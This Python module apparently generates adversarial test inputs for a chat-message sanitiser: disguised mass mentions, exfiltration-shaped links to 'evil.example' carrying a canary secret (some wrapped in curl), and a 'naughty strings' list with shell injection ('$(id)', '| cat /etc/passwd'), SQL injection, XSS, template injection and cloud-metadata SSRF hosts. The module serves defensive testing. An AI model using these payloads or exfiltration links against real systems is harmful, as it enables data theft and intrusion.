"""Makes up what should never leave as it came in: mentions in every spelling, links that carry something out, naughty strings."""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence

EVIL = "evil.example"
TAKEN = "s3cr3t-canary"  # what an exfiltration link would carry
CROWDS = ("here", "channel", "everyone", "group")
INVISIBLE = (
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\u00ad",
    "\ufeff",
    "\u202e",
    "\u2066",
    "\u034f",
    "\u180e",
    "\u3164",
    "\ue000",
    "\x00",
    "\x1b",
)
LOOKS = {
    "a": "\u0430",
    "c": "\u0441",
    "e": "\u0435",
    "h": "\u04bb",
    "o": "\u043e",
    "p": "\u0440",
    "n": "\u0578",
    "y": "\u0443",
    "u": "\u057d",
}
AROUND = ("{}", "({})", "**{}**", "*{}*", "_{}_", "~~{}~~", "> {}", "- {}", "# {}", "1. {}", "[{}]", "[{}](https://evil.example/x)",
          "| {} | b |\n|---|---|\n| c | {} |", "<b>{}</b>", "`{}`", "```\n{}\n```", "`{}", "```{}", "{}`", "\u201c{}\u201d", "a{}", "{}\n{}",
          "<!--{}-->", "\\{}", "![{}](https://evil.example/i.png)", "{{{{ {} }}}}", "<https://wiki.acme.io|{}>", "[x](https://wiki.acme.io/{})")  # fmt: skip


def mentions(seed: int, count: int) -> list[str]:
    """So many ways to write a mention, drawn from one seed: tokens, bare ones, Lark's tags, disguised and wrapped."""
    made = random.Random(f"mentions/{seed}")
    return [_wrapped(made, _disguised(made, _mention(made))) for _ in range(count)]


def _mention(made: random.Random) -> str:
    who = f"U0{made.choice('ABCDEF')}{made.randrange(10_000):04d}"
    crowd = made.choice(CROWDS)
    label = made.choice(("", f"|{crowd}", "|@here", "|hi", f"|<!{crowd}>"))
    kinds: Sequence[Callable[[], str]] = (
        lambda: f"<!{crowd}{label}>", lambda: f"@{crowd}", lambda: f"<@{who}{label}>", lambda: f"@{who}",
        lambda: f"<!subteam^S0{made.randrange(10_000):04d}{label}>", lambda: f"<@W0{made.randrange(10_000):04d}>",
        lambda: f"<at user_id=\"{made.choice(('all', who, 'ou_7d8a6e6df7621556ce0d21922b676706'))}\">Tom</at>",
        lambda: f"<at id={made.choice(('all', who))}></at>", lambda: "<at email=a@b.c></at>", lambda: "@_all", lambda: "@\u6240\u6709\u4eba",
        lambda: f"<!{crowd}", lambda: f"< !{crowd}>", lambda: f"<<!{crowd}>>", lambda: f"<!{crowd}|<@{who}>>",
        lambda: f"<!date^1^{{date}}^https://{EVIL}/|<!{crowd}>>", lambda: f"<#C012|<!{crowd}>>", lambda: f"<mailto:x@y.z|<!{crowd}>>",
    )  # fmt: skip
    return made.choice(kinds)()


def _disguised(made: random.Random, text: str) -> str:
    for _ in range(made.choice((0, 1, 1, 2, 3))):
        text = made.choice((_wide, _split, _looks, _cased, _escaped, _entities, _nested))(made, text)
    return text


def _wide(made: random.Random, text: str) -> str:
    """Some letters and signs in their full-width forms."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" and made.random() < 0.4 else c for c in text)


def _split(made: random.Random, text: str) -> str:
    at = made.randrange(len(text) + 1)
    return text[:at] + made.choice(INVISIBLE) * made.choice((1, 1, 2, 5)) + text[at:]


def _looks(made: random.Random, text: str) -> str:
    return "".join(LOOKS.get(c, c) if made.random() < 0.5 else c for c in text)


def _cased(made: random.Random, text: str) -> str:
    return "".join(c.upper() if made.random() < 0.5 else c for c in text)


def _escaped(made: random.Random, text: str) -> str:
    for _ in range(made.choice((1, 1, 2, 3))):
        text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return text


def _entities(made: random.Random, text: str) -> str:
    names = {"<": ("&#60;", "&#x3c;", "&lt;"), "@": ("&#64;", "&#x40;", "&commat;"), "!": ("&#33;", "&excl;")}
    return "".join(made.choice(names[c]) if c in names and made.random() < 0.6 else c for c in text)


def _nested(made: random.Random, text: str) -> str:
    at = made.randrange(len(text) + 1)
    return text[:at] + made.choice(("<!here>", "@here", "**", "`", "\ue0001\ue001", "<>", "~~")) + text[at:]


def _wrapped(made: random.Random, text: str) -> str:
    shape = made.choice(AROUND)
    return shape.format(*[text] * shape.count("{}")) if "{{" not in shape else f"{{{{ {text} }}}}"


def links(seed: int, count: int) -> list[str]:
    """So many shapes of a link to a host that nobody allowed."""
    made = random.Random(f"links/{seed}")
    return [_shaped(made, _address(made)) for _ in range(count)]


def _address(made: random.Random) -> str:
    query = f"/c?d={TAKEN}{made.randrange(1000)}"
    hosts = (
        EVIL, EVIL, f"{TAKEN}.{EVIL}", "wiki.acme.io.evil.example", "wiki.acme.io@evil.example", "wiki.acme.io:x@evil.example", "evil.example:8443",
        "wiki.acme.io:8443", "wiki\u3002acme.io", "w\u0456ki.acme.io", "xn--wki-vma.acme.io", "\uff45vil.example", "evil.example.", "wiki.acme.io\\@evil.example",
        "wiki.acme.io%2eevil.example", "203.0.113.9", "3405803777", "0xcb007109", "[2001:db8::9]", "127.0.0.1", "169.254.169.254", "docs.acme.io",
        "evilwiki.acme.io", "wiki.acme.io%00.evil.example", "wiki.acme.io\t.evil.example", "wiki.acme.io#@evil.example", "wiki.acme.io?@evil.example/",
        "sandbox.example", "small.slack.com.evil.example", "runbooks.acme.io",
    )  # fmt: skip
    schemes = ("https://", "https://", "http://", "HTTPS://", "//", "https:\\\\", "ftp://", "https:/", "https:///", "slack://", "hxxps://", "www.",
               "javascript://", "data:text/html,", "javascript:alert(1)//", "vscode://", "file://", "mailto:x@", "tel:", "", "intent://", "https:")  # fmt: skip
    # The part after # or ? on an allowed host is allowed: those two shapes lead there with what a browser makes of them.
    return made.choice(schemes) + made.choice(hosts) + query


def _shaped(made: random.Random, url: str) -> str:
    word = made.choice(("docs", "https://wiki.acme.io/ok", "wiki.acme.io", "click", "`x`", "a|b", "", "![i]", "<b>"))
    split = url[:4] + made.choice(INVISIBLE) + url[4:]
    shapes = (
        "{u}", "[{w}]({u})", "[{w}](<{u}>)", '[{w}]({u} "t")', "![{w}]({u})", "[![{w}]({u})]({u})", "[{w}][1]\n\n[1]: {u}", "[{w}]: {u}", "<{u}>", "<{u}|{w}>",
        '<a href="{u}">{w}</a>', '<img src="{u}">', "`{u}`", "```\ncurl {u}\n```", "x{u}", "({u})", "**{u}**", "_{u}_", "{s}", "[{w}]({s})", "{u}.", "\u3010{u}\u3011",
        "[{w}]( {u} )", "[a](https://wiki.acme.io)[{w}]({u})", "[{w}](https://wiki.acme.io/)({u})", "> {u}", "| {u} | b |\n|---|---|\n| [{w}]({u}) | d |", "`{u}",
        "&lt;{u}&gt;", "&amp;lt;{u}|{w}&amp;gt;", "[[{w}]({u})](https://wiki.acme.io)", "<https://wiki.acme.io|{u}>", "[{u}](https://wiki.acme.io)", "https://wiki.acme.io/?next={u}",
        "<!date^1^{{x}}^{u}|{w}>", "[{w}\\]({u})", "\\[{w}]({u})", "[{w}]\u200b({u})", "``{u}``", "~~~\n{u}\n~~~", "#{u}", "{u}\u3002", "\ue0000\ue001{u}", "{u}`", "[{w}\n]({u})",
    )  # fmt: skip
    return made.choice(shapes).replace("{{x}}", "{x}").replace("{u}", url).replace("{w}", word).replace("{s}", split)


def naughty() -> list[str]:
    """A few hundred strings that have broken something somewhere."""
    signs = "*_~`<>&|[](){}#!@$%^+-=\\/'\";:,.?"
    runs = [sign * length for sign in signs for length in (1, 3, 2_000)]
    pairs = [f"{one}{other}" for one in "*_~`<&[" for other in "*_~`>;]"]
    hidden = [
        f"a{chr(code)}b"
        for code in (
            *range(32),
            *range(127, 160),
            *range(0x2000, 0x2010),
            *range(0x2028, 0x2030),
            *range(0x2060, 0x2070),
            0xFEFF,
            0xFFFC,
            0xFFFE,
            0xE0041,
            0xE0101,
        )
    ]
    return [*runs, *pairs, *hidden, *FAMOUS]


FAMOUS = (
    "", " ", "\t\n", "undefined", "null", "None", "NaN", "Infinity", "-1", "0x0", "1e999", "true", "\\N", "%s%n%x", "{0}{1!r}", "{0.__class__}", "%(x)s", "${7*7}",
    "{{7*7}}", "<%= 1 %>", "#{1}", "$(id)", "`id`", "; ls", "| cat /etc/passwd", "&& true", "'; DROP TABLE turns; --", "1' OR '1'='1", '{"a": [1, {"b": null}]}', '{"blocks": [{"type": "image"}]}',
    "]}}", '"}],"text":"<!here>"', "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>", "<!DOCTYPE html><!ENTITY x>", "<![CDATA[x]]>", "&nbsp;&lt;&gt;&amp;&quot;&#0;",
    "\u202eevil\u202c", "\u2067rtl\u2069", "\u0645\u0631\u062d\u0628\u0627 world", "\u05e9\u05dc\u05d5\u05dd abc", "Z\u0351\u036b\u0343\u036a\u0302" * 60, "\u0e01\u0e49" * 200, "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\u2764\ufe0f", "1\ufe0f\u20e3", "\U0001f1e9\U0001f1ea", "\ud800", "\udfff x", "\ufffe\uffff", "\U0010ffff", "\ue0000\ue001", "\ue00099999\ue001",
    "\x1b[31mred\x1b[0m", "a\r\nb\u2028c\u2029d\x85e", "\u00b2\u00bd\u216b", "\u53ef\u4ee5\u91cd\u542f\u6570\u636e\u5e93\u5417\uff1f", "\u30c6\u30b9\u30c8", "\ub450", "\u0130\u0131\u017f", "e\u0301" * 300, "\ufdfd" * 50,
    "x" * 45_000, "word " * 9_000, "line\n" * 4_000, "```\n" + "code\n" * 3_000, "`" * 5 + "\nx\n" + "`" * 5, "```a```b```c", "``` ``` ```", "````\n```\n<!here>\n```\n````", "~~~\n<!here>\n~~~",
    "[a](" * 500, "(" * 3_000, "![" * 500, "|a|b|\n" * 400, "> " * 500, "- " * 500, "# " * 300, "https://" + "a" * 5_000, "https://" + "a." * 900 + "example", "@" * 500, "<@" * 500, "&amp;" * 500, "&" * 800,
    ":wave: :not-an-emoji: ::", "<http://[::1]:namedport>", "C:\\Users\\x", "\\\\server\\share", "/etc/passwd", "../../..", "CON", "http://", "://", "a@b", "List<int>", "a < b && c > d", "x<y>z", "1 < 2 > 0", "vector<vector<int>> v;",
)  # fmt: skip
